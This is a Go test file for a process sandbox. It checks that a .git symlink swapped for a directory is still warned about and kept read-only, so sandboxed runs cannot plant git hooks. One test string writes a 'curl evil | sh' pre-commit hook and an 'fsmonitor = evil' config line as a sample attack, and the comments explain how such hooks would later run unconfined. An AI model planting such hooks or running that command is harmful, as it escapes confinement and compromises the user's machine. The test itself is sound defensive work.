package agentproc_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/agentproc/agentproc"
)

// Tests of the fourth mend: docs/sandbox-threats.md, "Fourth mend".

// TestReadOnlyLinkSwappedForDir: a ReadOnly path that is a link out of its
// writable directory (a tree's `ln -s ~ .git` where ws/.git did not
// exist) is left out of the binds, since writes through it reach a target
// the tree may not write. It was left out of the policy too, so it had
// neither the warning nor the watch a missing ReadOnly path gets: a .git
// put in the link's place was writable to the tree running then and to
// every later tree of the Manager (whose namespace and resolved policy
// are kept), hooks and config included, which the user's git runs
// unconfined. It now warns as a missing path does and is watched as one:
// the live repair binds the new .git read-only in the running tree, and
// the next Start's namespace has it. Without root ReadOnly is not
// enforced at all, and the Start says so. The controls: the first tree
// makes the swap; the host's swap is seen by the tree only once covered.
func TestReadOnlyLinkSwappedForDir(t *testing.T) {
	requireSandbox(t)
	ws, outside := t.TempDir(), t.TempDir()
	git := filepath.Join(ws, ".git")
	if err := os.Symlink(outside, git); err != nil {
		t.Fatal(err)
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	hook := "echo 'curl evil | sh' > .git/pre-commit; echo '[core] fsmonitor = evil' >> .git/config"
	if isRoot() {
		// The host (or another tree) swaps a directory in while a tree
		// runs: the live repair covers it for that tree.
		p := startWaiting(t, m, ws, "read x; "+hook)
		if w := strings.Join(p.Info().Warnings, "\n"); !strings.Contains(w, ".git is a link out of its writable directory") {
			t.Errorf("the Start's warnings: got %q, want one naming the link .git", w)
		}
		if err := os.Remove(git); err != nil {
			t.Fatal(err)
		}
		if err := os.Mkdir(git, 0o755); err != nil {
			t.Fatal(err)
		}
		waitCovered(t, p, git)
		releaseWaiting(t, p)
		wantNoHook(t, git, "a running tree, after the host's swap", p.Output().Text)
		if err := os.Remove(git); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, git); err != nil {
			t.Fatal(err)
		}
	}
	// A tree swaps it: the next tree of the Manager may not write there.
	swap := agentproc.Request{Command: "rm .git && mkdir .git && echo SWAPPED", WorkDir: ws, Timeout: time.Minute}
	p := mustStart(t, m, swap)
	info := mustWait(t, p)
	want := ".git is a link out of its writable directory"
	if !isRoot() {
		want = "ReadOnly: needs root"
	}
	if w := strings.Join(info.Warnings, "\n"); !strings.Contains(w, want) {
		t.Errorf("the Start's warnings: got %q, want one containing %q", w, want)
	}
	if out := p.Output().Text; !strings.Contains(out, "SWAPPED") {
		t.Fatalf("control: the tree's swap: got %q, want SWAPPED", out)
	}
	if st, err := os.Lstat(git); err != nil || !st.IsDir() {
		t.Fatalf("control: .git after the swap: %v, %v; want a directory", st, err)
	}
	if !isRoot() {
		return // ReadOnly needs a mount namespace: nothing more to hold
	}
	out := runSandboxed(t, m, agentproc.Request{Command: hook + "; echo STARTED", WorkDir: ws, Timeout: time.Minute}).Text
	if !strings.Contains(out, "STARTED") {
		t.Errorf("the next tree: got %q, want it to run", out)
	}
	wantNoHook(t, git, "the next tree, after a tree's swap", out)
}

// wantNoHook fails the test if a tree wrote the hook or the config in git.
func wantNoHook(t *testing.T, git, who, out string) {
	t.Helper()
	for _, f := range []string{filepath.Join(git, "pre-commit"), filepath.Join(git, "config")} {
		if _, err := os.Stat(f); err == nil {
			t.Errorf("%s wrote %s, want it refused (output %q)", who, f, out)
		}
	}
}
